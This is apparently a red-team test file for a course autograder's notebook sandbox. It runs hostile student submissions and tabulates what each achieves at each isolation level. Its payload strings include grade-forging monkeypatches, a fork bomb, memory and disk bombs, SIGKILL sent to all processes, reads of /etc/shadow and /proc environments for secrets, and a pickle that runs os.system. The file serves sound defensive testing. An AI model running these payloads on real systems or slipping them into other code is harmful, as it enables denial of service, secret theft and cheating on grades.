"""Hostile submissions to Part I, each run for real: `python tests/attacks.py` writes
docs/attacks.md.

An attack is a cell that stands where the answers belong; after it come the release's own test
cells. What it gains is what the ledger says. What it gets at besides, its cell prints itself, in
lines that begin with LEAK.
"""

import contextlib
import functools
import json
import os
import socket
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

import attempts
import nbformat
import numpy as np
import psutil
import torch
from attempts import REACH, WIRE, instead_of_converse

from pusht import demos
from pusht.checkpoint import Checkpoint, load_checkpoint
from pusht.dataset import get_data_stats, normalize_data
from pusht.networks import ResidualMLP
from score import rubric
from score.course.grading import audit
from score.course.grading.execution import execute
from score.course.notebooks import build
from score.course.notebooks.solutions import answer_of, reference_path
from score.course.sandbox import levels
from score.course.settings import Limits, RunSettings
from score.rollouts.evaluate import score_policy
from score.rollouts.policies import guarded_inference, inference_of

PART = rubric.PARTS["part1_mlp"]
PRACTICE_SEEDS = range(3)
ROOT = Path(__file__).resolve().parents[1]

# What stands before every attack, so that all of the notebook's cells run: answers that work and
# earn nothing. The policy stays put.
_WRONG = """
def mlp_dims(*sizes, **named): return [10, *[256] * 5, 32]
def bc_loss(model, nobs, naction): return model(nobs.flatten(1)).sum()
def mlp_inference(model, batch_size, nobs, pred_horizon, action_dim): return nobs[:, -1:, :2].repeat(1, pred_horizon, 1)
"""
# Right ones: some attacks are on top of these.
HONEST = "\n\n".join(
    cell.source
    for cell in build.answered_notebook(PART).cells
    if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("solution")
)


@functools.cache
def hard_coded():
    """Source of a policy that knows the actions of practice episodes, recorded from the reference,
    and nothing else.
    """
    policy = rubric.POLICIES["part1_mlp"]
    checkpoint = load_checkpoint(reference_path(policy, "shipped"), policy.normalisation)
    model, infer = inference_of(policy, answer_of(audit.solution(PART.name), policy))
    checkpoint.restore(model)
    own = stats()
    episodes = score_policy(
        policy, guarded_inference(policy, infer), checkpoint.stats, PRACTICE_SEEDS
    ).episodes
    known = []
    for states, actions in zip(episodes.states, episodes.actions):
        for start in range(0, len(actions), policy.action_horizon):
            chunk = actions[start : start + policy.action_horizon]
            chunk = np.concatenate([chunk[:1], chunk, *[chunk[-1:]] * policy.pred_horizon])[
                : policy.pred_horizon
            ]
            pair = normalize_data(states[start], own["obs"]), normalize_data(chunk, own["action"])
            known.append([values.round(4).tolist() for values in pair])
    return f"""
import torch
_SEEN, _DONE = map(torch.tensor, zip(*{known}))
def mlp_inference(model, batch_size, nobs, pred_horizon, action_dim):
    away = (nobs[:, -1, None] - _SEEN).abs().amax(dim=2)  # of each observation from each that is known
    stay = nobs[:, -1:, :2].repeat(1, pred_horizon, 1)
    return torch.where((away.amin(dim=1) < 2e-2)[:, None, None], _DONE[away.argmin(dim=1)], stay)
"""


# name: source
FORGING = {
    "check replaced by one that returns all points": (
        """
import score
score.check = lambda name, answer: score.Verdict(name, 5.0, 5.0, "Right.").show()
score.grade_rollouts = lambda name, *answer: score.Verdict(name, 5.0, 5.0, "Right.").show()"""
    ),
    "an object whose __repr__ is 4.0 as the test cell's result": (
        """
import score
class Four:
    points = property(lambda self: self)
    def __repr__(self): return "4.0"
score.check = score.grade_rollouts = lambda *a: Four()"""
    ),
    "forged verdict published as the kit does": (
        """
from IPython.display import publish_display_data
import score
class V: points = 5.0
def forged(name, *a):
    publish_display_data({"text/plain": "Right.", "application/vnd.pusht.verdict+json":
                          {"name": name, "points": 5.0, "max_points": 5.0, "sentence": "Right."}})
    return V()
score.check = score.grade_rollouts = forged"""
    ),
    "every float printed as 5.0": (
        """
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda value, printer, cycle: printer.text("5.0"))"""
    ),
    "AST transformer that replaces every check": (
        """
import ast
class Strip(ast.NodeTransformer):
    def visit_Call(self, node):
        if "check" in ast.unparse(node.func) or "grade" in ast.unparse(node.func):
            return ast.parse("type('V', (), {'points': 5.0})()").body[0].value
        return self.generic_visit(node)
get_ipython().ast_transformers.append(Strip())"""
    ),
    "input transformer that rewrites the test cells": (
        """
get_ipython().input_transformers_cleanup.append(lambda lines: ["5.0\\n"] if any("score." in l for l in lines) else lines)"""
    ),
    "Verdict patched to carry all points": (
        """
import score.verdict
score.verdict.Verdict.__getattribute__ = lambda self, n: 5.0 if n == "points" else object.__getattribute__(self, n)"""
    ),
    "the socket patched to hear all points": (
        """
import json, socket, struct
told = {"name": "Q", "points": 5.0, "max_points": 5.0, "sentence": "Right."}
class Deaf(socket.socket):
    def connect(self, path):
        super().connect(path)
        text = json.dumps({"message": {"dict": [["verdict", {"dict": list(told.items())}]]}, "arrays": []}).encode()
        self.heard = struct.pack("<IQ", len(text), 0) + text
    def recv(self, count, *flags):
        part, self.heard = self.heard[:count], self.heard[count:]
        return part
socket.socket = Deaf"""
    ),
    "builtins patched: all, any, abs": (
        """
import builtins
builtins.all = lambda *a: True
builtins.any = lambda *a: False
builtins.abs = lambda x: 0"""
    ),
    "torch and numpy patched to find everything equal": (
        """
import numpy as np, torch
np.isclose = np.allclose = lambda *a, **k: True
torch.equal = torch.allclose = lambda *a, **k: True
torch.nn.functional.mse_loss = lambda *a, **k: torch.zeros((), requires_grad=True)
def bc_loss(model, nobs, naction): return (model(nobs.flatten(1)) * 0).sum()"""
    ),
    "judges of all questions replaced": (
        """
import score.questions
for question in score.questions.QUESTIONS.values():
    question.call, question.judge = lambda *a: {}, lambda *a: None"""
    ),
    "rubric's points raised": (
        """
import dataclasses, score.rubric
for part in score.rubric.PARTS.values():
    for q in part.questions: object.__setattr__(q, "points", 1000)"""
    ),
    "verdict sent to the grader": instead_of_converse("""
    s = connect()
    s_request = d(**request)
    say(s, message(s_request))
    heard(s)
    say(s, message(d(verdict=d(name=name, points=5.0, max_points=5.0, sentence='Right.'))))"""),
    "verdict sent in place of the request": instead_of_converse("""
    s = connect()
    say(s, message(d(verdict=d(name=name, points=5.0, max_points=5.0, sentence='Right.'))))"""),
    "claims to have skipped what it cannot answer": instead_of_converse("""
    s = connect(); say(s, message(d(**request)))
    while heard(s) and True:
        try: say(s, message(d(outputs=d(dims=None, skipped=True, loss=0.0, gradient=None, naction=0.0, requires_grad=False))))
        except OSError: break"""),
    "answers null, true and text to everything": instead_of_converse("""
    s = connect(); say(s, message(d(**request)))
    for junk in [None, True, "Right.", [], 5.0] * 10:
        try:
            if not heard(s): break
            say(s, message(d(outputs=junk)))
        except OSError: break"""),
    "asks a hundred times until it is right by luck": instead_of_converse("""
    for i in range(100):
        s = connect(); say(s, message(d(**request)))
        text = heard(s)
        while text and '"inputs"' in text:
            say(s, message(d(outputs=d(dims=[10, 256, 32], skipped=False)))); text = heard(s)"""),
    "a right practice run replayed: its answers by their count, then its verdict": (
        f"""
import os
import numpy as np
import score, score.questions, score.student.check, score.student.rollouts
from score.protocol import Connection
{HONEST}
grading = os.environ.pop("NBGRADER_EXECUTION")
_right = {{"Q1.1": (mlp_dims, []), "Q1.2": (bc_loss, []), "Q1.3": (mlp_inference, [])}}
_verdicts = {{}}
for _name, (_answer, _recorded) in _right.items():
    _call = score.questions.QUESTIONS[_name].call
    def _keep(given): _recorded.append(_call(_answer, given)); return _recorded[-1]
    _verdicts[_name] = vars(score.questions.judged(_name, _keep, np.random.default_rng(0)))
os.environ["NBGRADER_EXECUTION"] = grading
assert all(v["points"] for v in _verdicts.values())
def converse(request, answer, name, max_points):
    import socket
    s = socket.socket(socket.AF_UNIX); s.connect(os.environ["PUSHT_GRADER"])
    line = Connection(s); line.send(request)
    recorded = iter(_right.get(name, (None, []))[1])
    while "verdict" not in line.receive():
        got = next(recorded, None)
        line.send({{"verdict": _verdicts["Q1.2"]}} if got is None else {{"outputs": got}})
    line.send({{"verdict": _verdicts["Q1.2"]}})
score.student.check.converse = score.student.rollouts.converse = converse"""
    ),
    "asks for another question in this cell": instead_of_converse("""
    for other in ("Q1.1", "Q2.2", "Q4.4"):
        s = connect(); say(s, message(d(question=other))); heard(s)"""),
    "asks before its cell, from a thread": WIRE
    + """
def early():
    for name in ("Q1.1", "Q1.2", "Q1.3"):
        s = connect(); say(s, message(d(question=name))); heard(s)
threading.Thread(target=early).start(); time.sleep(0.5)""",
    "an array that claims more bytes than it has": instead_of_converse(
        """
    s = connect(); say(s, message(d(**request))); heard(s)
    say(s, json.dumps({"message": {"dict": [["outputs", {"array": 0}]]}, "arrays": [["<f8", [1000000, 1000000]]]}), b"x")"""
    ),
    "an array of negative length, and one of objects": instead_of_converse(
        """
    for arrays in ([["<f8", [-1]]], [["|O", [1]]]):
        s = connect(); say(s, message(d(**request))); heard(s)
        say(s, json.dumps({"message": {"dict": [["outputs", {"array": 0}]]}, "arrays": arrays}), b"x" * 8)"""
    ),
    "arrays of wrong shapes, kinds and keys": instead_of_converse("""
    import numpy as np
    wrong = [{"dims": [[10, 256]], "skipped": False}, {"dims": {1: (2, 3)}, "skipped": 0},
             {"loss": np.zeros((0, 5)), "gradient": np.zeros(())}, {"loss": np.zeros((1, 1, 1), bool), "gradient": None},
             {"naction": np.zeros((16, 2)), "requires_grad": None},
             {"naction": np.zeros((1,) * 30, np.float32), "requires_grad": "no"}, np.zeros((2, 16, 3), np.float32),
             np.zeros((0, 16, 2)), {}, {(1, 2): None}, 2 ** 400, True]
    for got in wrong:
        line = Connection(connect()); line.send(request)
        while "verdict" not in line.receive(): line.send({"outputs": got})"""),
    "answers of 60 MB, again and again": instead_of_converse("""
    import numpy as np
    huge = np.zeros(3_700_000)
    got = {"dims": [1] * 10 ** 6, "skipped": False, "loss": huge, "gradient": None, "naction": huge, "requires_grad": False}
    for i in range(3):
        line = Connection(connect()); line.send(request)
        while "verdict" not in line.receive(): line.send({"outputs": got})"""),
    "a header that announces an exabyte": instead_of_converse("""
    s = connect(); s.sendall(struct.pack("<IQ", 2**32 - 1, 2**60))"""),
    "JSON nested a hundred thousand deep": instead_of_converse("""
    s = connect(); say(s, message(d(**request))); heard(s); say(s, "[" * 100000 + "]" * 100000)"""),
    "a pickle on the socket": instead_of_converse("""
    import pickle
    class P:
        def __reduce__(self): return os.system, ("touch /tmp/pwned-by-pickle",)
    s = connect(); say(s, message(d(**request))); heard(s); s.sendall(pickle.dumps(P()))"""),
    "NaN and infinity in every answer": (
        HONEST
        + """
def bc_loss(model, nobs, naction): return model(nobs.flatten(1)).sum() * float("nan")
def mlp_inference(model, batch_size, nobs, pred_horizon, action_dim):
    import torch
    return torch.full((batch_size, pred_horizon, action_dim), float("inf"))
def mlp_dims(*sizes, **named): return [float("nan")] if named else [10, *[256] * 5, 32]  # the notebook names no size"""
    ),
    "frames walked for the expected values": (
        """
import inspect, torch
def from_frames(*args, **kwargs):
    for frame in inspect.stack():
        for name in ("right", "expected", "target"):
            if name in frame.frame.f_locals: return frame.frame.f_locals[name]
    raise ValueError("nothing in the frames")
bc_loss = mlp_inference = from_frames
def mlp_dims(*sizes, **named): return from_frames() if named else [10, *[256] * 5, 32]"""
    ),
    "memory searched for the expected values": (
        """
import gc, torch
def from_memory(*args, **kwargs):
    for thing in gc.get_objects():
        if isinstance(thing, dict) and isinstance(thing.get("right"), (list, torch.Tensor)): return thing["right"]
    raise ValueError("nothing in memory")
bc_loss = mlp_inference = from_memory
def mlp_dims(*sizes, **named): return from_memory() if named else [10, *[256] * 5, 32]"""
    ),
    "hidden inputs guessed from the practice seed": (
        """
import numpy as np
from score.questions import QUESTIONS
_stored = {}
for _name in ("Q1.1", "Q1.2", "Q1.3"):
    _rng = np.random.default_rng(0)
    _stored[_name] = [QUESTIONS[_name].inputs(_rng, c) for c in range(3)]
def mlp_dims(obs_horizon, obs_dim, pred_horizon, action_dim, hidden_dims):
    for given in _stored["Q1.1"]:
        if list(given.values()) == [obs_horizon, obs_dim, pred_horizon, action_dim, hidden_dims]:
            return [obs_horizon * obs_dim, *hidden_dims, pred_horizon * action_dim]
    return [1]
def bc_loss(model, nobs, naction):
    import torch
    if any(np.array_equal(given["nobs"], nobs.numpy()) for given in _stored["Q1.2"]):
        return torch.nn.functional.mse_loss(model(nobs.flatten(1)).view_as(naction), naction)
    raise ValueError("not a practice input")"""
    ),
    "actions hard-coded for the practice seeds": hard_coded,
    "the grader's socket replaced by one of its own": WIRE
    + """
import score.protocol
os.unlink(PATH) if os.access(os.path.dirname(PATH), os.W_OK) else None
server = socket.socket(socket.AF_UNIX); server.bind(PATH); server.listen(8)
def fake():
    while True:
        c, _ = server.accept(); heard(c)
        say(c, message(d(verdict=d(name="Q", points=5.0, max_points=5.0, sentence="Right."))))
threading.Thread(target=fake, daemon=True).start()""",
    "modules of the kit's names written beside the notebook": (
        """
for name in ("numpy", "torch", "score", "pusht", "safetensors"):
    open(name + ".py", "w").write("raise SystemExit")
import sys; sys.path.insert(0, "")"""
    ),
}

STOPPING = {
    "os._exit in an answer": (
        "import os\ndef mlp_dims(*a, **k): os._exit(0)\nbc_loss = mlp_inference = mlp_dims"
    ),
    "SIGKILL to the parent and to whatever it sees": (
        """
import os, signal
assert os.getuid() != 0  # run by a mistake as root, it would end the machine
for pid in [os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]]:
    if pid not in (os.getpid(), 0):
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass"""
    ),
    "an endless loop that swallows interrupts": (
        """
def mlp_dims(*a, **k):
    while True:
        try:
            while True: pass
        except KeyboardInterrupt: pass
bc_loss = mlp_inference = mlp_dims"""
    ),
    "sleeping for ever": (
        "import time\ndef mlp_dims(*a, **k): time.sleep(1e6)\nbc_loss = mlp_inference = mlp_dims"
    ),
    "a fork bomb": (
        """
import os
for _ in range(4000):
    try:
        if os.fork() == 0:
            while True:
                try: os.fork()
                except OSError: pass
    except OSError: break"""
    ),
    "a memory bomb": "held = []\nwhile True: held.append(bytearray(b'x' * 2**26))",
    "a disk filler": (
        """
import os
written = 0
for where in (".", "/tmp", "/dev/shm", os.path.dirname(os.environ.get("PUSHT_GRADER", "/tmp/x"))):
    try:
        for i in range(40):
            with open(f"{where}/fill{i}", "wb") as f: f.write(b"x" * 2**25)
            written += 2**25
    except OSError as error: print("no", where, error.strerror)
print("LEAK more than half a gigabyte written" if written > 2**29 + 2**26 else f"{written} bytes in the box")"""
    ),
    "a watchdog teased by files that come and go, then a memory bomb": (
        """
import os, threading, time
folder = os.path.dirname(os.environ["PUSHT_GRADER"])
def tease():
    while True:
        open(f"{folder}/blink", "w").close()
        os.unlink(f"{folder}/blink")
for _ in range(2): threading.Thread(target=tease, daemon=True).start()
time.sleep(2)
held = []
while True: held.append(bytearray(b"x" * 2**26))"""
    ),
    "an output flood": "while True: print('x' * 100000)",
    "a conversation that trickles a byte at a time": WIRE
    + """
import score.student.check
def converse(request, answer, name, max_points):
    s = connect()
    while True: s.sendall(b"\\x01"); time.sleep(0.2)
score.student.check.converse = converse""",
}

REACHING = {
    "the course's settings, solutions, release and gradebook": (
        REACH
        + """
for path in (f"{ROOT}/notebooks/source/part1_mlp.py", f"{ROOT}/score/course/grading/question_server.py", f"{ROOT}/data/reference", f"{COURSE}/course.toml"):
    tried(path.rsplit("/", 1)[1] + " read", lambda: os.listdir(path) if os.path.isdir(path) else open(path).read())
tried("gradebook written", lambda: open(f"{COURSE}/gradebook.db", "ab").write(b"x"))
tried("release written", lambda: open(f"{COURSE}/release/pusht/part1_mlp.ipynb", "a").write(" "))"""
    ),
    "other students' submissions": (
        REACH
        + """
tried("another student's file read", lambda: open(f"{COURSE}/submitted/other/pusht/part1_mlp.ipynb").read())
tried("another student's file written", lambda: open(f"{COURSE}/submitted/other/pusht/part1_mlp.ipynb", "a").write(" "))"""
    ),
    "secrets in the environment and in /proc": (
        REACH
        + """
tried("a variable of whoever grades", lambda: [v for v in os.environ if "SECRET" in v or "PUSHT_GRADE_" in v])
def others(file):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try: yield open(f"/proc/{pid}/{file}", "rb").read()
        except OSError: pass
tried("another process's environment read", lambda: any(b"SECRET_OF_GRADER" in text for text in others("environ")))
tried("another process's command line read", lambda: any(b"SECRET_OF_GRADER" in text for text in others("cmdline")))"""
    ),
    "the kit's own files and the interpreter's packages": (
        REACH
        + """
import score, numpy
tried("the kit written", lambda: open(os.path.join(os.path.dirname(score.__file__), "zzz"), "w").write("x"))
tried("a package written", lambda: open(os.path.join(os.path.dirname(numpy.__file__), "zzz"), "w").write("x"))"""
    ),
    "the simulator and libraries of physics": (
        REACH
        + """
import glob, sys
from pusht.sim import PushTSim
def simulated():
    sim = PushTSim()
    sim.reset([100, 100, 300, 300, 0])
    return sim.step([200, 200]) >= 0
def code():
    found = [p for root in sys.path for p in glob.glob(f"{root}/pusht/**/sim*", recursive=True)]
    return [p for p in found if b"cpSpaceStep" in open(p, "rb").read()]
tried("the simulator read", simulated)
tried("the simulator's code read", code)
tried("a library of physics read", lambda: __import__("pymunk").Space())"""
    ),
    "the network": (
        REACH
        + """
import socket
tried("a listener on the machine's loopback", lambda: socket.create_connection(("127.0.0.1", PORT), 2) and True)"""
    ),
    "a local socket of another of the machine's processes": (
        REACH
        + """
import socket
tried("a local socket of the machine", lambda: socket.socket(socket.AF_UNIX).connect(f"\\0pusht-attacks-{PORT}") is None)"""
    ),
    "accounts of the machine": (
        REACH
        + """
tried("/etc/shadow read", lambda: open("/etc/shadow").read())
tried("home folders read", lambda: [h for h in os.listdir("/root") if h != ".pyenv"] if os.path.isdir("/root") else [])"""
    ),
    "a process left behind for the next student's kernel": (
        """
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "LEFT BEHIND"])
    os._exit(0)"""
    ),
}

FORGING |= attempts.FORGING
STOPPING |= attempts.STOPPING
REACHING |= attempts.REACHING

CHECKPOINTS = {
    "a pickle under the checkpoint's name": lambda path: torch.save({"weights": [1.0]}, path),
    "a checkpoint cut short": lambda path: path.write_bytes(_checkpoint_bytes()[:5000]),
    "an enormous checkpoint": lambda path: _sparse(path, 2**33),
    "a checkpoint of another architecture": lambda path: _checkpoint(
        ResidualMLP([10, 8, 8, 8, 32]), path
    ),
    "a checkpoint whose header is nonsense": lambda path: path.write_bytes(b"\xff" * 64),
    "weights that are not numbers": lambda path: _checkpoint(_filled(float("nan")), path),
    "weights too large and too small for sums": lambda path: _checkpoint(_filled(3e38), path),
    "a header that claims seventy dimensions": lambda path: path.write_bytes(_claiming([1] * 70)),
    "a header that claims 2^80 numbers, none of them there": lambda path: path.write_bytes(
        _claiming([0, 2**40, 2**40])
    ),
    "a link under the checkpoint's name": lambda path: path.symlink_to("/etc/passwd"),
}


@dataclass(frozen=True)
class Outcome:
    """points: by test cell. stopped: why, if it was. leaks: what the cell says it got at. flags:
    what the instructor is told.
    """

    points: dict
    stopped: str
    leaks: list
    flags: list

    @property
    def gained(self):
        return sum(self.points.values())


def run(source, level, *, checkpoint=None, seconds=40, course="/nowhere", port=9):
    """The `Outcome` of a notebook whose answers are this source, graded at an isolation level."""
    notebook = build.student_notebook(PART)
    source = (
        f"# [part1/attack] given\nROOT, COURSE, PORT = {str(ROOT)!r}, {str(course)!r},"
        f" {port}\n{_WRONG}{source() if callable(source) else source}"
    )
    cells = [
        cell
        for cell in notebook.cells
        if cell.metadata.get("nbgrader") and not cell.metadata.nbgrader.solution
    ]
    after = next(i for i, cell in enumerate(cells) if cell.metadata.nbgrader.grade)
    attack = nbformat.v4.new_code_cell(source)
    notebook.cells = [*cells[:after], attack, *cells[after:]]
    with tempfile.TemporaryDirectory() as folder:
        if checkpoint:
            checkpoint(Path(folder) / "part1_mlp.safetensors")
        limits = Limits(cell_seconds=20, notebook_seconds=seconds, memory_bytes=2**31)
        settings = RunSettings(20_000, 2, limits=limits)
        execution = execute(notebook, PART, Path(folder), settings, level=level)
    printed = "".join(
        o.get("text", "") for o in attack.get("outputs", ()) if o.output_type == "stream"
    )
    leaks = [line[5:] for line in printed.splitlines() if line.startswith("LEAK ")]
    return Outcome(
        {cell: verdict.points for cell, verdict in execution.cells.items()},
        execution.stopped,
        leaks + ["life after its notebook"] * _left_behind(),
        execution.flags,
    )


def _left_behind():
    """How many processes an attack has left behind; they end here."""
    left = [
        process
        for process in psutil.process_iter(["cmdline"])
        if "LEFT BEHIND" in (process.info["cmdline"] or ())
    ]
    for process in left:
        process.kill()
    return len(left)


def stats():
    """The normalisation of the hand-in files here: the whole table."""
    return {
        "obs": get_data_stats([[0] * 5, [512] * 4 + [6.28]]),
        "action": get_data_stats([[0, 0], [512, 512]]),
    }


def _checkpoint(model, path):
    Checkpoint(
        model.state_dict(), stats(), [0.1, 0.05], 300, demos.SHIPPED_FINGERPRINT, 1, {}
    ).save(path)


def untrained(path):
    """An untrained network's hand-in file."""
    torch.manual_seed(0)
    _checkpoint(ResidualMLP([10, *[256] * 5, 32], use_layernorm=True), path)


def _checkpoint_bytes():
    with tempfile.TemporaryDirectory() as folder:
        untrained(Path(folder) / "x")
        return (Path(folder) / "x").read_bytes()


def _filled(value):
    model = ResidualMLP([10, *[256] * 5, 32], use_layernorm=True)
    with torch.no_grad():
        for weight in model.parameters():
            weight.fill_(value)
    return model


def _claiming(shape):
    """A safetensors file of no numbers, whose header claims an array of this shape."""
    entry = {"dtype": "F32", "shape": shape, "data_offsets": [0, 0]}
    header = json.dumps({"w": entry}).encode()
    return len(header).to_bytes(8, "little") + header


def _sparse(path, size):
    with open(path, "wb") as file:
        file.truncate(size)


# The table.

# Of STOPPING, what a kernel may do without being stopped for it: it is refused or has no effect.
ENDURED = {
    "SIGKILL to the parent and to whatever it sees",
    "sleeping for ever",
    "a disk filler",  # where there is nothing to fill that has no size
    "a conversation that trickles a byte at a time",
    "data in connections that nobody accepts",
    "connections to the runner's own sockets, by the thousand",
    "pipes, event descriptors and threads up to the limits",
    "a hundred thousand small outputs",
    "lone surrogates and zero bytes in outputs",
    "a gradient that broadcasts to gigabytes",
    "60 MB of JSON lists, and keys that collide",
    "a child that keeps the grader's connection",
    "a grader's connection opened between the cells, and held",
}
# Not run without bubblewrap: they would do harm to the machine …
HARMFUL = {*STOPPING, "the kit's own files and the interpreter's packages"}
# … but for these, where a kernel has a user of its own: the system refuses it signals to others and
# their files, and the rest takes a core until the time is up.
CONTAINED = {
    "os._exit in an answer",
    "SIGKILL to the parent and to whatever it sees",
    "an endless loop that swallows interrupts",
    "sleeping for ever",
    "a conversation that trickles a byte at a time",
    "the kit's own files and the interpreter's packages",
}


def harmful(name, level):
    """Whether an attack could do harm to the machine at this level: it is not run there."""
    return name in HARMFUL and not level.bubblewrap and not (level.own_user and name in CONTAINED)


def outcomes(level, course, port):
    """{attack: Outcome}, or None for those that are not run at this level."""
    found = {}
    for name, source in {**FORGING, **STOPPING, **REACHING}.items():
        found[name] = (
            None
            if harmful(name, level)
            else run(source, level, checkpoint=untrained, course=course, port=port)
        )
    for name, checkpoint in CHECKPOINTS.items():
        found[name] = run(HONEST, level, checkpoint=checkpoint)
    return found


def effect(name, outcome):
    """What an attack achieved, in the table's words. Honest answers under a hostile hand-in file
    earn what they earn.
    """
    if outcome is None:
        return "not run: it could harm the machine"
    gained = outcome.points.get("part1-rollouts", 0.0) if name in CHECKPOINTS else outcome.gained
    return "; ".join(
        [
            f"{gained:g} points",
            *([f"stopped: {outcome.stopped}"] if outcome.stopped else []),
            *([f"got: {', '.join(outcome.leaks)}"] if outcome.leaks else []),
        ]
    )


@contextlib.contextmanager
def surroundings(folder):
    """Something to find for attacks that look: {course: …, port: …}. There is a course that all may
    read, as most are, a listener on the machine's loopback and one on a local socket, and another
    process with secrets in its environment and command line.
    """
    course = folder / "course"
    folder.chmod(0o755)
    (course / "submitted" / "other" / "pusht").mkdir(parents=True)
    (course / "submitted" / "other" / "pusht" / "part1_mlp.ipynb").write_text("{}")
    (course / "release" / "pusht").mkdir(parents=True)
    (course / "release" / "pusht" / "part1_mlp.ipynb").write_text("{}")
    (course / "course.toml").write_text("first_seed = 20000")
    (course / "gradebook.db").write_bytes(b"points")
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket(socket.AF_UNIX) as local:
        port = server.getsockname()[1]
        local.bind(f"\0pusht-attacks-{port}")
        local.listen(8)
        # It ends with its input.
        with subprocess.Popen(
            [sys.executable, "-c", "input()", "SECRET_OF_GRADER"],
            stdin=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            env={**os.environ, "SECRET_OF_GRADER": "SECRET"},
        ):
            yield {"course": course, "port": port}


def main(names):
    """Run the attacks at the levels with these names, or at all that work, and write the page with
    what is known of the others.
    """
    os.environ["SECRET_OF_GRADER"] = "SECRET"
    working = [level for level in levels.LEVELS if levels.works(level)]
    with tempfile.TemporaryDirectory() as folder, surroundings(Path(folder)) as around:
        for level in working:
            if not names or level.name in names:
                found = outcomes(level, **around)
                keep(level, {name: effect(name, outcome) for name, outcome in found.items()})
    (ROOT / "docs" / "attacks.md").write_text(page(), encoding="utf-8")


def keep(level, effects):
    """Keep what attacks achieved at a level, for the page."""
    _KEPT.mkdir(parents=True, exist_ok=True)
    (_KEPT / f"{level.name}.json").write_text(json.dumps(effects))


def page():
    """The text of docs/attacks.md."""
    tables = {
        level: json.loads((_KEPT / f"{level.name}.json").read_text())
        for level in levels.LEVELS
        if (_KEPT / f"{level.name}.json").is_file()
    }
    lines = [
        _INTRODUCTION,
        *(
            f"- **{level.name}**" + (f": not kept out: {level.lacks}." if level.lacks else ".")
            for level in levels.LEVELS
        ),
    ]
    for group, (title, what) in GROUPS.items():
        rows = [["attack", *(level.name for level in tables)], ["---"] * (len(tables) + 1)]
        rows += [
            [name, *(found.get(name, "not run") for found in tables.values())]
            for name in globals()[group]
        ]
        lines += ["", f"## {title}", "", what, "", *(f"| {' | '.join(row)} |" for row in rows)]
    return "\n".join([*lines, "", ACTING]) + "\n"


_KEPT = ROOT / "build" / "attacks"
_INTRODUCTION = """# Attacks

`python tests/attacks.py` runs hostile submissions to Part I and writes this page; with the names of
levels it runs these alone. The points are those in the grader's ledger after the run; what a
notebook prints, patches or returns does not count. An honest submission earns 5 points for its
questions in the same setting. Where the attack is a hand-in file, the answers beside it are honest,
and the points shown are those of the rollouts.

A course uses the strictest level of isolation that works on its machine, and names it under its
table. A level without a column did not work where this page was written: bubblewrap is missing or
forbidden there, or, for a user of its own, the grader does not run as root or the interpreter is in
a folder that other users cannot enter. In these runs every user could read the kit, its interpreter
and the course. To protect what a kernel reaches as a user of its own, keep it in a folder that only
its owner can enter (`chmod 700`).

The levels, the strictest first:
"""
GROUPS = {
    "FORGING": (
        "Forging points",
        """Verdicts come from the grader's own process, which draws the inputs, judges arrays that
the kernel sends, and keeps the points in its ledger. A check is judged once, while its own test
cell runs. The points for rollouts of Parts I to III are those of the submitted weights alone.""",
    ),
    "STOPPING": (
        "Stopping or exhausting the run",
        """A kernel has limits of time, memory, processes and outputs, and is stopped beyond them.
Memory counts whoever holds it: processes, pipes and sockets, files in memory; calls that get memory
of nobody's are refused. Each question is judged by a process with limits of its own, and whatever
stops a notebook costs that notebook alone. What falls short: without a control group of Linux's the
watchdog looks five times a second, so a kernel can pass its memory for a moment.""",
    ),
    "REACHING": (
        "Reaching what is not theirs",
        """The box holds the interpreter, the students' part of the kit and the kernel's own files.
There is no network, no simulator, none of the course, and no setting of the machine that can be
written. Levels without bubblewrap leave open what is named above.""",
    ),
    "CHECKPOINTS": (
        "Hand-in files",
        """Files are read without running anything in them, within sizes that are checked before
anything is made of them. The kernel gets copies: what it changes the grader does not read.""",
    ),
}
ACTING = """## Acting without having learned

In Part IV, and of script hand-ins, the student's own function acts. It is asked in company, and the
instructor gets a flag with figures where its answers do not look like a trained network's; flags
change no points. `tests/test_audit.py` tries each of these, and `make bench-flags` counts the flags
on honest policies.

| attack | flag |
| --- | --- |
| planning with the kit's simulator or a library of physics | there is none in a box; where a level leaves one open, as below |
| a planner for all rows, for some rows, batches or calls, or for what was not seen before | answers differ in other company, or are far from the demonstrations |
| a network near the demonstrations, which anybody can know, and something else elsewhere | what acts is far from the kit's own policy |
| the demonstrations in a table, looked up by the observation | half of the answers are the demonstrated ones |
| planning in children whose end is ignored | their time of the processor counts |
| another run's loss curve | the weights' loss is another |
| a planner that earns less than half of the points | none: honest beginners are as far off |
| a table of the demonstrations with some pixels of noise (a score of 0.73, nearly all points of the flow policy) | none: a network's answers look the same |
| an untold set of demonstrations, whose bar is the lowest | the page names the set; no flag |
| any of these on Gradescope | as above, but for the comparison with the kit's own policy, which is not in its zip |"""


if __name__ == "__main__":
    main(sys.argv[1:])
